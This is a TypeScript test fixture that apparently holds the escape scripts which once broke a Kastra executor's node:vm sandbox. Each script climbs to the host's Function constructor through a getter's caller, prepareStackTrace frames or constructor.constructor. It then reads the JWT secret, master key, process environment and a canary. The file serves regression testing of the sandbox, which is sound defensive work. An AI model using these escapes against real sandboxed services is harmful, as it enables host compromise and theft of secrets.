/**
 * The escapes that ran code on the executor host through the former `node:vm` sandbox, as a user
 * wrote them: each climbs to the host's `Function`, gets `process`, and reads the JWT secret and
 * master key of KASTRA_HOME (and of the repository's .kastra, the services' cwd), the whole
 * environment from /proc/self/environ, and a canary variable. Whatever they reach they return, so
 * a success shows in the run's output or error.
 */
const STEAL = `
  const steal = (HostFunction) => {
    const proc = HostFunction('return process')();
    const load = proc.mainModule ? (name) => proc.mainModule.require(name) : HostFunction('return require')();
    const fs = load('fs');
    const read = (file) => { try { return fs.readFileSync(file, 'utf8'); } catch (error) { return 'unreadable ' + file; } };
    const home = proc.env.KASTRA_HOME;
    return 'escaped pid=' + proc.pid
      + ' jwt=' + read(home + '/jwt-secret') + ' master=' + read(home + '/master-key')
      + ' repo-jwt=' + read('.kastra/jwt-secret') + ' repo-master=' + read('.kastra/master-key')
      + ' environ=' + read('/proc/self/environ').split('\\u0000').join(' ')
      + ' canary=' + proc.env.KASTRA_CONFINEMENT_CANARY;
  };`;

const OUTCOME_GETTER = `
  Object.defineProperty(globalThis, '__kastraOutcome', {
    configurable: true,
    get: function () { return JSON.stringify({ ok: true, json: JSON.stringify(steal(arguments.callee.caller.constructor)) }); },
    set: function () {},
  });`;

/** Tool name → script code. */
export const ESCAPE_SCRIPTS: Record<string, string> = {
  // The host read the outcome slot from a setImmediate callback: the getter's caller was the host's.
  'outcome-getter': `${STEAL}${OUTCOME_GETTER}
    return 'waiting for the host to read __kastraOutcome';`,
  // The same getter, read from inside: its caller chain must end in the engine.
  'outcome-getter-inside': `${STEAL}${OUTCOME_GETTER}
    return globalThis.__kastraOutcome;`,
  // V8 called prepareStackTrace with call sites whose getThis() was a host object: a stack taken
  // while the host reads the outcome slot holds the host's frames.
  'prepare-stack-trace': `${STEAL}
    const viaFrames = () => {
      let found = 'no host frame';
      Error.prepareStackTrace = (error, frames) => {
        for (const frame of frames) {
          const self = frame.getThis();
          if (self && self.constructor) { try { found = steal(self.constructor.constructor); break; } catch (error) { found = String(error); } }
        }
        return found;
      };
      return new Error('probe').stack;
    };
    Object.defineProperty(globalThis, '__kastraOutcome', {
      configurable: true,
      get: function () { return JSON.stringify({ ok: true, json: JSON.stringify(viaFrames()) }); },
      set: function () {},
    });
    throw new Error('stack: ' + viaFrames());`,
  // The classic constructor climb, from the input the host handed in.
  'constructor-climb': `${STEAL}
    return steal(input.constructor.constructor);`,
};
